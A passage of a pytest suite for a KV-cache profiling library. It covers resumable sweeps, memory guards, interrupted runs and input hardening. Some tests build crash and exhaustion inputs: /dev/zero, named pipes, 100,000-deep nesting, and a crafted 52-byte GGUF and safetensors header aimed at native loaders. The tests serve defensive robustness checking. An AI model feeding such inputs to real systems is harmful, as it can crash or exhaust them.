name = "resume"
models = ["tiny-llama"]
devices = ["cpu"]
strategies = ["rotating:max_size=8"]
prompts = ["hello"]
max_tokens = 2
"""
DONE_BUT_BROKEN = [
    (5, "a 0-byte profile", b"", "is empty (0 bytes)"),
    (5, "a profile cut to its header", b"table,key,value\n", "does not open"),
    (5, "text that is no profile", b"a,b\n1,2\n", "does not open"),
]


@pytest.mark.parametrize("item, what, content, says", DONE_BUT_BROKEN, ids=[c[1] for c in DONE_BUT_BROKEN])
def test_5_a_done_row_whose_profile_does_not_open_is_run_again(item, what, content, says, tmp_path):
    from cachelib.sweep import plan_sweep
    from cachelib.sweep.grid import parse_grid
    from cachelib.sweep.index import pending_row, write_index

    grid = tmp_path / "grid.toml"
    grid.write_text(SWEEP_GRID, encoding="utf-8")
    [point] = parse_grid(SWEEP_GRID, grid).points()
    out = tmp_path / "out"
    out.mkdir()
    (out / point.file).write_bytes(content)
    write_index(out, [pending_row(point) | {"status": "done", "file": point.file}])
    before = snapshot(tmp_path)
    plan = plan_sweep(grid, out)
    assert plan.todo == [point]  # not skipped
    why = plan.reruns[point.id]
    assert point.file in why and says in why and why.endswith("running it again"), why
    assert not unchanged(before, snapshot(tmp_path))  # planning writes nothing


# 10. the Planner (CLI and page) at contexts far past the model's length: prompt, with a warning


@pytest.mark.parametrize("context", [10**8, 10**12])
def test_10_plan_at_a_huge_context_answers_in_seconds_and_warns_of_the_models_limit(context, capsys, tmp_path):
    before = snapshot(tmp_path)
    code, err, out = run_cli(
        [
            "plan",
            "--model",
            "llama-3.1-8b",
            "--context",
            str(context),
            "--prefill-chunk",
            "2048",
            "--budget",
            "24",
            "--no-default-evidence",
        ],
        capsys,
    )
    assert code == 0, err
    assert err == [
        f"warning: context {context:,} is past llama-3.1-8b's limit of 131,072 tokens "
        "(max_position_embeddings): the bytes are what the cache would hold, but the model was not "
        "built to attend that far"
    ]
    assert not unchanged(before, snapshot(tmp_path))


def test_10_the_planner_page_at_10_to_the_12_answers_with_the_warning(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("CACHELIB_PROFILES_DIR", str(tmp_path))
    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=60)
    at.run()
    at.switch_page("views/planner.py").run()
    at.multiselect(key="plan_evidence").set_value([]).run()
    at.text_input(key="plan_context").input("1000000000000").run()  # a whole-number field read as typed
    assert not at.exception and not at.error  # a hang fails AppTest's own timeout
    assert any("context 1,000,000,000,000 is past llama-3.1-8b's limit" in w.value for w in at.warning)


# 13. a large profile in the app: the metadata and steps first, each other table when asked, its size shown


def test_13_a_large_profiles_bad_layers_table_is_one_error_when_read_and_the_steps_charts_stay(
    masked_profile, tmp_path, monkeypatch
):
    from streamlit.testing.v1 import AppTest

    from app import data
    from app.keys import Keys
    from cachelib.core.units import human_bytes

    monkeypatch.setattr(data, "LARGE_BYTES", 1)  # every file counts as large
    folder = tmp_path / "profiles"
    folder.mkdir()
    monkeypatch.setenv("CACHELIB_PROFILES_DIR", str(folder))
    bad = _edit(masked_profile, folder / "big.csv", "layers", "bytes_used", "9" * 40)
    before = snapshot(tmp_path)
    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=120)
    at.run()
    at.switch_page("views/profiles.py").run()
    assert at.dataframe[0].value.set_index("profile").loc["big.csv", "size"] == human_bytes(bad.stat().st_size)
    at.multiselect(key="compare").select("big.csv").run()
    assert not at.exception and not at.error and len(at.get("plotly_chart")) == 3  # steps charts only
    assert set(at.session_state[Keys.LOADED]["big"].tables.loaded) == {"steps"}
    at.toggle(key=Keys.read_table("compare", "layers")).set_value(True).run()
    assert not at.exception and len(at.error) == 1
    said = at.error[0].value.replace("\\", "")  # the page escapes markdown in user text
    assert said.startswith("big.csv, line ") and "column 'bytes_used'" in said, said
    assert "does not fit a 64-bit integer" in said
    assert not unchanged(before, snapshot(tmp_path))


# 16. the local sweep cluster listens on loopback only, dashboard included


def test_16_no_socket_of_a_local_sweep_cluster_listens_beyond_loopback(tmp_path):
    import ipaddress

    import psutil

    from cachelib.sweep.cluster import start_local_cluster
    from cachelib.sweep.grid import parse_grid

    points = parse_grid(SWEEP_GRID, tmp_path / "grid.toml").points()
    me = psutil.Process()

    def listening():
        out = set()
        for p in [me, *me.children(recursive=True)]:
            try:
                conns = p.net_connections("inet")
            except psutil.NoSuchProcess:
                continue
            out |= {(p.pid, c.laddr.ip, c.laddr.port) for c in conns if c.status == psutil.CONN_LISTEN}
        return out

    before = listening()
    cluster = start_local_cluster(points, workers=1)
    try:
        opened = listening() - before
        assert len(opened) >= 4 and any(pid != me.pid for pid, _, _ in opened), opened
        assert [s for s in opened if not ipaddress.ip_address(s[1]).is_loopback] == []
    finally:
        cluster.close()


# 17. transformers' behaviours our torch layers keep: over-crops empty, refusals are its classes too

TORCH_REFUSALS = [
    (
        17,
        "crop of a full sliding window without past recording",
        "DynamicSlidingWindowLayer",
        (3,),
        4,
        -1,
        RuntimeError,
        "activate_past_recording",
    ),
    (17, "crop(+1) of a static layer", "StaticLayer", (8,), 2, 1, RuntimeError, "must be <= 0"),
    (17, "writing past a static layer", "StaticLayer", (4,), 3, None, IndexError, "do not fit in max_cache_len=4"),
    (
        17,
        "crop of a recurrent state without past recording",
        "LinearAttentionLayer",
        (),
        0,
        -1,
        RuntimeError,
        "activate_past_recording",
    ),
]


@pytest.mark.parametrize(
    "item, what, name, args, held, crop, theirs, says", TORCH_REFUSALS, ids=[c[1] for c in TORCH_REFUSALS]
)
def test_17_a_refusal_is_our_value_error_and_the_class_transformers_raises(
    item, what, name, args, held, crop, theirs, says
):
    import torch

    import cachelib.torch as ct

    layer = getattr(ct, name)(*args)
    kv = torch.zeros(1, 2, max(held, 1), 4)
    if held:
        layer.update(kv[..., :held, :], kv[..., :held, :])
    with pytest.raises(ValueError) as refused:
        if crop is None:
            layer.update(kv[..., :2, :].expand(1, 2, 2, 4), kv[..., :2, :].expand(1, 2, 2, 4))
        else:
            layer.crop(crop)
    assert isinstance(refused.value, theirs)
    assert name in str(refused.value) and says in str(refused.value)


@pytest.mark.parametrize(
    "name, args",
    [
        ("DynamicLayer", ()),
        ("StaticLayer", (8,)),
        ("QuantizedLayer", ()),
        ("KVCacheLayer", ()),
        ("DynamicSlidingWindowLayer", (16,)),
    ],
)
def test_17_cropping_more_than_is_held_empties_the_layer(name, args):
    import torch

    import cachelib.torch as ct

    layer = getattr(ct, name)(*args)
    kv = torch.zeros(1, 2, 5, 64)
    layer.update(kv, kv)
    layer.crop(-50)
    assert layer.get_seq_length() == 0 and layer.introspect().tokens_held == 0


# 18. mlx-lm's own batch files: what mlx-lm loads and runs loads (with a warning); what it cannot use is refused


def test_18_a_batch_file_mlx_lm_writes_loads_with_a_warning_and_an_unusable_one_is_refused(tmp_path):
    import mlx.core as mx
    import mlx_lm.models.cache as ref

    import cachelib.mlx as ours

    usable, unusable = tmp_path / "one-padding.safetensors", tmp_path / "two-for-three.safetensors"
    for path, pads, rows in ((usable, [1], 2), (unusable, [1, 0], 3)):
        cache = ref.BatchKVCache(pads)
        k = mx.zeros((rows, 1, 3, 32))
        cache.update_and_fetch(k, k)
        ref.save_prompt_cache(str(path), [cache])
        ref.load_prompt_cache(str(path))  # mlx-lm reads both back without complaint
    before = snapshot(tmp_path)
    with pytest.warns(UserWarning, match=r"one-padding.safetensors.*layer 0 \(BatchKVCache\).*for 2 batch rows"):
        [loaded] = ours.load_prompt_cache(str(usable))
    assert loaded.left_padding.tolist() == [1, 1]
    with pytest.raises(
        ValueError, match=r"two-for-three.safetensors.*layer 0 \(BatchKVCache\).*left_padding has 2 entries"
    ):
        ours.load_prompt_cache(str(unusable))
    assert not unchanged(before, snapshot(tmp_path))


# --- 19. every entry point guarded like profile (issue 33) -------------------------------------------
# 19a. the predicted-memory check of profile runs before evaluate and retrieval load the model

TOO_BIG = [
    ("evaluate", "tiny-llama", "static:max_len=20000000", "would need 40.96 GB"),
    ("evaluate", "smollm2", "static:max_len=200000000", "would need 9.22 TB"),
    ("retrieval", "tiny-llama", "static:max_len=20000000", "would need 40.96 GB"),
    ("retrieval", "smollm2", "static:max_len=200000000", "would need 9.22 TB"),
]


def _no_load_in(monkeypatch, *modules: str) -> None:
    def refuse(*args, **kwargs):
        raise AssertionError("the model was loaded before the run was refused")

    import importlib

    for module in modules:
        monkeypatch.setattr(importlib.import_module(module), "load", refuse)


@pytest.mark.parametrize("command, model, spec, says", TOO_BIG, ids=[f"{c[0]}-{c[1]}" for c in TOO_BIG])
def test_19_evaluate_and_retrieval_refuse_caches_that_cannot_fit_before_the_model_loads(
    command, model, spec, says, tmp_path, capsys, monkeypatch
):
    _no_load_in(monkeypatch, "cachelib.profile.evaluate", "cachelib.profile.retrieval")
    monkeypatch.setattr("cachelib.profile.guard.available_memory", lambda device: 8 * 10**9)
    extra = ["--score-tokens", "4", "--windows", "1"] if command == "evaluate" else ["--trials", "1"]
    out = tmp_path / "e.csv"
    code, err, _ = run_cli(
        [command, "--model", model, "--context", "256", *extra, "--strategy", spec, "--out", str(out)], capsys
    )
    assert code == 2 and len(err) == 1, err
    assert says in err[0] and spec in err[0] and "7.20 GB it may use" in err[0], err[0]
    assert list(tmp_path.iterdir()) == []


def _limited(gib: float):
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (int(gib * 2**30), resource.RLIM_INFINITY))

    return limit


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_AS is enforced on Linux")
def test_19_the_limit_is_the_lower_of_available_memory_and_rlimit_as(tmp_path):
    """Under ``ulimit -v`` MLX segfaults when an allocation is refused: the guard must count it."""
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "cachelib",
            "evaluate",
            "--model",
            "tiny-llama",
            "--context",
            "256",
            "--score-tokens",
            "4",
            "--windows",
            "1",
            "--strategy",
            "static:max_len=2000000",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        preexec_fn=_limited(3),
    )
    err = [line for line in run.stderr.splitlines() if line.strip()]
    assert run.returncode == 2 and len(err) == 1, run.stderr[-2000:]
    assert "would need 4.10 GB" in err[0] and "RLIMIT_AS (ulimit -v)" in err[0], err[0]


def test_19_a_memory_limit_above_the_machines_memory_is_refused(world, capsys, no_model_load):
    import psutil

    too_much = psutil.virtual_memory().total * 2
    code, err, _ = run_cli(_in(world, _profile("--memory-limit", f"{too_much}B")), capsys)
    assert code == 2 and len(err) == 1, err
    assert "--memory-limit" in err[0] and "is more than the" in err[0] and "allowed: 1 byte .." in err[0], err[0]
    with pytest.raises(ValueError, match="is more than the"):
        run_profile(MODEL, ["standard"], prompt="hi", memory_limit=too_much)


def test_19_a_prompt_whose_forward_cannot_fit_is_refused_and_one_past_the_positions_warned(
    load_model, tmp_path, monkeypatch
):
    from cachelib.profile.guard import PastPositionsWarning

    loaded = load_model(MODEL, "mlx")
    monkeypatch.setattr("cachelib.profile.guard.available_memory", lambda device: 2 * 10**9)
    # ~10,000 tokens in one forward: float32 logits of every position (2 GB at a 49,152 vocabulary) and 2 heads of
    # 10,000^2 scores (0.8 GB) on MLX's CPU attention; the 50,000 ended with a segmentation fault
    with pytest.warns(PastPositionsWarning), pytest.raises(ValueError, match="of activations in its largest forward"):
        run_profile(loaded, ["standard"], prompt="hello " * 12_000, max_tokens=2, chat=False)
    with pytest.warns(PastPositionsWarning, match="past tiny-llama's limit of 4,096"):
        profile = run_profile(loaded, ["standard"], prompt="hello " * 4_200, max_tokens=2, chat=False)
    assert profile.complete


# 19b. one edge for byte sizes: checked after scaling, never an OverflowError, the range in the message

HUGE_SIZES = [
    ("parse_memory('1e300')", lambda: parse_memory("1e300", "x"), "x must be a size from 0 to"),
    ("parse_memory(10**400)", lambda: parse_memory(10**400, "x"), "x must be a size from 0 to"),
    ("parse_memory_limit('1e300')", lambda: parse_memory_limit("1e300"), "memory_limit must be a size from"),
    ("parse_memory_limit(1e300)", lambda: parse_memory_limit(1e300), "memory_limit must be a size from"),
    (
        "PlanRequest(budget_bytes=10**30)",
        lambda: _request(budget_bytes=10**30),
        "budget_bytes must be a whole number of bytes from 0 to",
    ),
    ("PlanRequest(reserve_bytes=1e300)", lambda: _request(reserve_bytes=1e300), "reserve_bytes must be a whole number"),
    ("a 400-digit size quotes 100 characters", lambda: parse_memory("9" * 400, "x"), "9" * 90 + "..."),
]


@pytest.mark.parametrize("what, make, says", HUGE_SIZES, ids=[c[0] for c in HUGE_SIZES])
def test_19_huge_sizes_are_value_errors_with_the_range(what, make, says):
    with pytest.raises(ValueError) as e:
        make()
    assert says in str(e.value) and len(str(e.value)) < 300, str(e.value)


def test_19_a_grid_memory_limit_of_1e300_is_one_line_naming_the_grid(tmp_path, capsys):
    grid = tmp_path / "grid.toml"
    grid.write_text(SWEEP_GRID + 'memory_limit = "1e300"\n', encoding="utf-8")
    before = snapshot(tmp_path)
    code, err, _ = run_cli(["sweep", str(grid), "--out", str(tmp_path / "out")], capsys)
    assert code == 2 and len(err) == 1, err
    assert "grid.toml:" in err[0] and "'memory_limit'" in err[0] and "from 0 to" in err[0], err[0]
    assert snapshot(tmp_path) == before


# 19c. one bounded reader: devices, named pipes and sockets refused by type, bytes and nesting capped

EVAL = ("evaluate", "--model", MODEL, "--context", "8", "--score-tokens", "2", "--windows", "1")
GRID_HEAD = 'name = "g"\nmodels = ["tiny-llama"]\nstrategies = ["rotating:max_size=8"]\n'
READER_CASES = [
    Case(19, "evaluate --text /dev/zero", (*EVAL, "--text", "/dev/zero"), "/dev/zero", "a character device"),
    Case(19, "evaluate --text a named pipe", (*EVAL, "--text", "{w}/pipe.txt"), "pipe.txt", "named pipe (FIFO)"),
    Case(19, "evaluate --text a socket", (*EVAL, "--text", "{w}/s.sock"), "s.sock", "is a socket"),
    Case(19, "sweep /dev/zero", ("sweep", "/dev/zero"), "/dev/zero", "a character device"),
    Case(19, "sweep a named pipe", ("sweep", "{w}/pipe.txt"), "pipe.txt", "named pipe"),
    Case(
        19, "a grid nested 100,000 deep", ("sweep", "{w}/deep.toml"), "deep.toml", "nests arrays or tables 100,000 deep"
    ),
    Case(
        19,
        "a grid's texts = ['/dev/zero']",
        ("sweep", "{w}/zero-texts.toml"),
        "zero-texts.toml:4",
        "a character device",
    ),
    Case(19, "a grid's texts = [a named pipe]", ("sweep", "{w}/pipe-texts.toml"), "pipe-texts.toml:4", "named pipe"),
    Case(
        19,
        "plan --model a config of 10^12 layers",
        ("plan", "--model", "{w}/huge.json", "--context", "100"),
        "huge.json",
        "num_hidden_layers must be a positive integer (1 to 100,000)",
    ),
    Case(
        19,
        "plan --model a config nested 100,000 deep",
        ("plan", "--model", "{w}/deep.json", "--context", "100"),
        "deep.json",
        "nests arrays or tables 100,000 deep",
    ),
    Case(
        19,
        "plan --model /dev/zero",
        ("plan", "--model", "/dev/zero", "--context", "100"),
        "/dev/zero",
        "a character device",
    ),
    Case(19, "report a named pipe", ("report", "{w}/pipe.txt", "--out", "{w}/r.html"), "pipe.txt", "named pipe"),
]


def _reader_inputs(w: Path) -> None:
    import json
    import socket

    os.mkfifo(w / "pipe.txt")
    with socket.socket(socket.AF_UNIX) as s:  # the socket file stays after the socket closes
        s.bind(str(w / "s.sock"))
    (w / "deep.toml").write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n")
    (w / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (w / "zero-texts.toml").write_text(GRID_HEAD + 'texts = ["/dev/zero"]\n')
    (w / "pipe-texts.toml").write_text(GRID_HEAD + 'texts = ["pipe.txt"]\n')
    (w / "huge.json").write_text(
        json.dumps(
            {
                "model_type": "llama",
                "num_hidden_layers": 10**12,
                "hidden_size": 64,
                "num_attention_heads": 2,
                "vocab_size": 100,
            }
        )
    )


@pytest.mark.parametrize("case", READER_CASES, ids=lambda c: f"{c.item}-{c.what}")
def test_19_the_bounded_reader_refuses_devices_pipes_and_deep_nesting_in_one_line(case, tmp_path, capsys):
    _reader_inputs(tmp_path)
    before = snapshot(tmp_path)
    code, err, _ = run_cli(case.args(tmp_path), capsys)
    assert code == 2 and len(err) == 1, err
    assert case.names in err[0] and case.says in err[0], err[0]
    assert snapshot(tmp_path) == before


def test_19_an_evidence_folder_with_a_dev_zero_symlink_a_pipe_and_bad_rows_still_plans(tmp_path, capsys):
    from cachelib.profile.evidence import DEFAULT_EVIDENCE, _schema

    folder = tmp_path / "evidence"
    folder.mkdir()
    source = next(p for p in sorted(DEFAULT_EVIDENCE.glob("*.csv")) if _schema(p) == "cachelib-evaluation/1")
    frame = pd.read_csv(source, dtype=str, keep_default_na=False)
    first = frame.index[frame["kind"] == "sample"][0]
    neginf = frame.assign(mean_kl=frame["mean_kl"].where(frame.index != first, "-inf"))
    neginf.to_csv(folder / "neginf.csv", index=False)
    frame.assign(strategy=frame["strategy"].where(frame.index != first, "bogus:x=1")).to_csv(
        folder / "bogus.csv", index=False
    )
    (folder / "good.csv").write_bytes(source.read_bytes())
    (folder / "zero.csv").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.csv")
    code, err, out = run_cli(
        ["plan", "--model", "smollm2", "--context", "1000", "--no-default-evidence", "--evidence", str(folder)], capsys
    )
    assert code == 0, err
    said = "\n".join(err)
    for name, why in (
        ("zero.csv", "a character device"),
        ("pipe.csv", "named pipe"),
        ("neginf.csv", "mean_kl -inf is not a finite number"),
        ("bogus.csv", "unknown strategy 'bogus'"),
    ):
        assert f"{folder / name}: skipped, " in said and why in said, (name, said)
    assert "from 1 file(s)" in out, out  # good.csv alone


LONG = "x" * 100_000
LONG_INPUTS = [
    ("plan --budget", ("plan", "--model", "smollm2", "--context", "1000", "--budget", LONG)),
    ("plan --model", ("plan", "--model", LONG, "--context", "10")),
    ("plan --evidence", ("plan", "--model", "smollm2", "--context", "10", "--evidence", LONG)),
    ("profile --model", ("profile", "--model", LONG, "--prompt", "hi", "--out", "{w}/p.csv")),
    ("profile --strategy", ("profile", "--model", MODEL, "--prompt", "hi", "--strategy", LONG, "--out", "{w}/p.csv")),
    ("evaluate --context", ("evaluate", "--model", MODEL, "--context", LONG)),
    ("evaluate --text", ("evaluate", "--model", MODEL, "--context", "8", "--text", "{w}/" + LONG)),
    ("sweep GRID", ("sweep", LONG)),
    ("report PROFILE", ("report", LONG, "--out", "{w}/r.html")),
    ("profiles FOLDER", ("profiles", LONG)),
]


@pytest.mark.parametrize("what, argv", LONG_INPUTS, ids=[c[0] for c in LONG_INPUTS])
def test_19_an_error_quotes_at_most_100_characters_of_a_100_kb_input(what, argv, tmp_path, capsys):
    code, err, _ = run_cli(_in(tmp_path, argv), capsys)
    assert code == 2 and len(err) == 1, err[:1]
    assert len(err[0]) < 400 and "xxx..." in err[0] and "x" * 101 not in err[0], err[0][:500]


# 19d. prompt-cache files: the format checked before any array is made, then ranks, shapes and leaves


def _prompt_cache(path: Path, cls: str, edit=None) -> Path:
    """A one-layer prompt cache of ``cls`` written by cachelib, its tensors and header passed
    through ``edit(tensors, header)`` and written back as safetensors."""
    import mlx.core as mx

    import cachelib.mlx as ours
    from cachelib.mlx.safetensors import read_safetensors

    makers = {
        "KVCache": ours.KVCache,
        "ConcatenateKVCache": ours.ConcatenateKVCache,
        "StaticKVCache": lambda: ours.StaticKVCache(16),
        "ChunkedKVCache": lambda: ours.ChunkedKVCache(8),
    }
    cache = makers[cls]()
    k = mx.zeros((1, 2, 3, 8))
    cache.update_and_fetch(k, k)
    ours.save_prompt_cache(path, [cache])
    if edit is not None:
        tensors, header = read_safetensors(path)
        edit(tensors, header)
        mx.save_safetensors(str(path), tensors, header)
    return path


def _keys_of_rank(rank: int):
    def edit(tensors, header):
        import mlx.core as mx

        shape = (3, 8, 2, 4)[:rank]
        tensors["0.0"] = tensors["0.1"] = mx.zeros(shape) if rank else mx.array(0.0)

    return edit


def _leaf(kind: str, value):
    def edit(tensors, header):
        import mlx.core as mx

        header["2.1.1"] = kind
        tensors["0.2"] = mx.array(value)

    return edit


LINEAR = ("KVCache", "StaticKVCache", "ChunkedKVCache", "ConcatenateKVCache")
LOW_RANKS = [(cls, rank) for cls in LINEAR for rank in (0, 1, 2, 3)]


@pytest.mark.parametrize("cls, rank", LOW_RANKS, ids=[f"{c}-{r}D" for c, r in LOW_RANKS])
def test_19_prompt_cache_keys_of_the_wrong_rank_are_one_value_error_naming_file_and_layer(cls, rank, tmp_path):
    from cachelib.mlx import load_prompt_cache

    path = _prompt_cache(tmp_path / "low.safetensors", cls, _keys_of_rank(rank))
    with pytest.raises(ValueError) as e:
        load_prompt_cache(path)
    said = str(e.value)
    assert "low.safetensors" in said and f"layer 0 ({cls})" in said and "4-D" in said, said


@pytest.mark.parametrize(
    "kind, value, says",
    [
        ("string", [2**40], "not a Unicode code point"),
        ("string", [float("inf")], "1-D integer array"),
        ("scalar", float("inf"), "finite number"),
        ("scalar", [1, 2], "must hold one number"),
        ("none", [1.0], "must be an empty array"),
    ],
)
def test_19_a_prompt_cache_leaf_of_2_40_or_inf_is_a_value_error(kind, value, says, tmp_path):
    from cachelib.mlx import load_prompt_cache

    path = _prompt_cache(tmp_path / "leaf.safetensors", "KVCache", _leaf(kind, value))
    with pytest.raises(ValueError, match="leaf.safetensors") as e:
        load_prompt_cache(path)
    assert says in str(e.value) and "'0.2'" in str(e.value), str(e.value)


def test_19_a_crafted_52_byte_gguf_a_pipe_and_other_formats_are_value_errors_not_crashes(tmp_path):
    """Run in a child: a native loader's segmentation fault must fail the test, not end pytest."""
    script = textwrap.dedent(
        """
        import os, struct, sys
        from pathlib import Path
        from cachelib.mlx import load_prompt_cache
        w = Path(sys.argv[1])
        (w / "x.gguf").write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 2**40, 1) + bytes(28))  # 52 bytes
        (w / "x.npz").write_bytes(b"PK\\x03\\x04" + os.urandom(60))
        (w / "x.safetensors").write_bytes(struct.pack("<Q", 40) + b'{"a": {"dtype": "F32", "shape": [2**40]}}')
        (w / "empty.safetensors").write_bytes(b"")
        os.mkfifo(w / "pipe.safetensors")
        for name in ("x.gguf", "x.npz", "x.safetensors", "empty.safetensors", "pipe.safetensors"):
            try:
                load_prompt_cache(w / name)
                print(name, "loaded")
            except ValueError as e:
                print(name, "ValueError", str(e).replace(chr(10), " "))
        """
    )
    run = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)], capture_output=True, text=True, timeout=120, cwd=ROOT
    )
    assert run.returncode == 0, (run.returncode, run.stderr[-2000:])
    lines = run.stdout.splitlines()
    assert len(lines) == 5 and all(line.split()[1] == "ValueError" for line in lines), lines
    for line in lines:
        assert f"load_prompt_cache('{tmp_path / line.split()[0]}')" in line, line
    assert "not a safetensors file" in lines[0] and "named pipe" in lines[4], lines


@pytest.mark.parametrize("kind", ["profile", "evaluation"])
def test_19_a_sweep_point_that_cannot_fit_is_refused_before_its_caches_exist(kind, tmp_path, monkeypatch):
    from cachelib.sweep.grid import parse_grid
    from cachelib.sweep.run import run_point

    monkeypatch.setattr("cachelib.profile.guard.available_memory", lambda device: 8 * 10**9)
    head = 'name = "big"\nmodels = ["tiny-llama"]\ndevices = ["cpu"]\nstrategies = ["static:max_len=20000000"]\n'
    body = (
        'prompts = ["hi"]\nmax_tokens = 2\n'
        if kind == "profile"
        else ("contexts = [64]\nscore_tokens = 2\nwindows = 1\n")
    )
    [point] = parse_grid(head + body, tmp_path / "grid.toml").points()
    with pytest.raises(ValueError, match=r"would need 40\.96 GB .*more than the 7\.20 GB"):
        run_point(point)


@pytest.mark.parametrize("command", ["profile", "evaluate", "retrieval"])
def test_19_a_model_folder_of_a_million_layers_is_refused_before_it_loads(command, tmp_path, capsys, monkeypatch):
    import json

    from cachelib.models.presets import preset_folder

    _no_load_in(monkeypatch, "cachelib.profile.run", "cachelib.profile.evaluate", "cachelib.profile.retrieval")
    folder = tmp_path / "deep-model"
    folder.mkdir()
    for f in preset_folder(MODEL).iterdir():
        (folder / f.name).write_bytes(f.read_bytes())
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps({**config, "num_hidden_layers": 10**6}))
    argv = {
        "profile": ["--prompt", "hi", "--out", str(tmp_path / "p.csv")],
        "evaluate": ["--context", "8"],
        "retrieval": ["--context", "64"],
    }[command]
    code, err, _ = run_cli([command, "--model", str(folder), *argv], capsys)
    assert code == 2 and len(err) == 1, err
    assert "deep-model" in err[0] and "num_hidden_layers must be a positive integer (1 to 100,000)" in err[0], err[0]


# --- 20. every output checked first, streamed, resumed (issue 33) ---------------------------------------

CORPUS_TEXT = str(ROOT / "assets" / "corpus" / "genesis-kjv.txt")
# Many small measurements on the tiny model: a signal lands mid-run, and a re-run finishes in seconds.
OUT_RUNS = {
    "evaluate": (
        "evaluate",
        "--model",
        MODEL,
        "--text",
        CORPUS_TEXT,
        "--context",
        "48",
        "--score-tokens",
        "4",
        "--windows",
        "30",
        "--strategy",
        "rotating:max_size=16,keep=2",
        "--one-by-one",
    ),
    "retrieval": (
        "retrieval",
        "--model",
        MODEL,
        "--context",
        "128",
        "--depth",
        "0.5",
        "--trials",
        "30",
        "--strategy",
        "standard",
        "--strategy",
        "rotating:max_size=32,keep=2",
        "--one-by-one",
    ),
}
OUT_KEYS = {
    "evaluate": ["strategy", "context", "text", "window_start"],
    "retrieval": ["strategy", "context", "depth", "trial"],
}


def _start_out(command: str, out: Path, limit_bytes: int | None = None) -> subprocess.Popen:
    def child():
        signal.signal(signal.SIGINT, signal.SIG_DFL)  # even where the test runner ignores Ctrl-C
        if limit_bytes is not None:  # a full disk, as `ulimit -f` makes one
            import resource

            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))

    return subprocess.Popen(
        [sys.executable, "-m", "cachelib", *OUT_RUNS[command], "--out", str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
        cwd=ROOT,
        preexec_fn=child,
    )


def _rows_streamed(folder: Path, n: int, timeout: float = 240) -> None:
    """Wait until a run's hidden partial file in ``folder`` holds ``n`` data rows."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for p in folder.glob(".*.partial"):
            try:
                if p.read_text(encoding="utf-8").count("\n") - 1 >= n:
                    return
            except OSError:
                pass
        time.sleep(0.1)
    raise AssertionError(f"no run in {folder} streamed {n} rows")


def _table(path: Path, command: str) -> pd.DataFrame:
    from cachelib.profile import load_evaluation

    found = load_evaluation(path)
    return found.samples if command == "evaluate" else found.retrieval


def _expected_rows(command: str) -> int:
    return 30 * 2  # 30 windows (trials) x 2 strategies


@pytest.mark.slow
@pytest.mark.parametrize("command", ["evaluate", "retrieval"])
@pytest.mark.parametrize("sig, code, how", [(signal.SIGINT, 130, "Ctrl-C"), (signal.SIGTERM, 143, "SIGTERM")])
def test_20_ctrl_c_or_sigterm_then_the_same_command_takes_each_measurement_once(command, sig, code, how, tmp_path):
    out = tmp_path / "e.csv"
    run = _start_out(command, out)
    _rows_streamed(tmp_path, 3)
    run.send_signal(sig)
    _, stderr = run.communicate(timeout=120)
    assert run.returncode == code, stderr
    incomplete = tmp_path / "e.incomplete.csv"
    assert f"interrupted ({how})" in stderr and f"what was measured is in {incomplete}" in stderr, stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["e.incomplete.csv"]  # no hidden file left
    first = _table(incomplete, command)
    assert 3 <= len(first) < _expected_rows(command)

    again = _start_out(command, out)
    stdout, stderr = again.communicate(timeout=400)
    assert again.returncode == 0, stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["e.csv"]  # the incomplete file was taken in
    final = _table(out, command)
    keys = OUT_KEYS[command]
    assert len(final) == _expected_rows(command) and not final.duplicated(keys).any()
    # what the first run measured was not measured again: its rows are in the final file as it wrote them
    kept = first.merge(final, on=keys, suffixes=("", "_final"))
    assert len(kept) == len(first) and (kept["seconds"] == kept["seconds_final"]).all()


@pytest.mark.slow
@pytest.mark.parametrize("command", ["evaluate", "retrieval"])
def test_20_two_runs_to_one_out_lose_nothing(command, tmp_path):
    out = tmp_path / "e.csv"
    runs = [_start_out(command, out) for _ in range(2)]
    results = [r.communicate(timeout=600) for r in runs]
    assert [r.returncode for r in runs] == [0, 0], results
    written = sorted(p.name for p in tmp_path.iterdir())
    assert len(written) == 2 and "e.csv" in written, written  # e.csv and e.RUNID.csv; no hidden file
    said = "".join(stdout for stdout, _ in results)
    assert "was kept as it is (another run wrote it while this one ran)" in said
    for name in written:
        table = _table(tmp_path / name, command)
        assert len(table) == _expected_rows(command) and not table.duplicated(OUT_KEYS[command]).any()


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_FSIZE as a full disk")
def test_20_a_full_disk_names_the_out_path_and_keeps_the_rows_in_the_incomplete_file(tmp_path):
    out = tmp_path / "e.csv"
    run = _start_out("evaluate", out, limit_bytes=3000)
    _, stderr = run.communicate(timeout=400)
    err = [line for line in stderr.splitlines() if line.strip()]
    assert run.returncode == 2 and len(err) == 1, stderr
    incomplete = tmp_path / "e.incomplete.csv"
    assert err[0].startswith(f"error: {out}: cannot write the evaluation (File too large)"), err
    assert f"measured so far are in {incomplete}" in err[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["e.incomplete.csv"]  # no hidden file left
    assert len(_table(incomplete, "evaluate")) >= 2


def _outs(w: Path) -> None:
    """The files the bad ``--out`` cases below point at (beside the world's ``afile`` and ``x.csv/``)."""
    (w / "notes.csv").write_text("my own notes, not an evaluation\n")
    (w / "page.html").write_text("name,value\n1,2\n")


def _evaluate_out(out: str) -> tuple[str, ...]:
    return ("evaluate", "--model", MODEL, "--context", "8", "--score-tokens", "2", "--windows", "1", "--out", out)


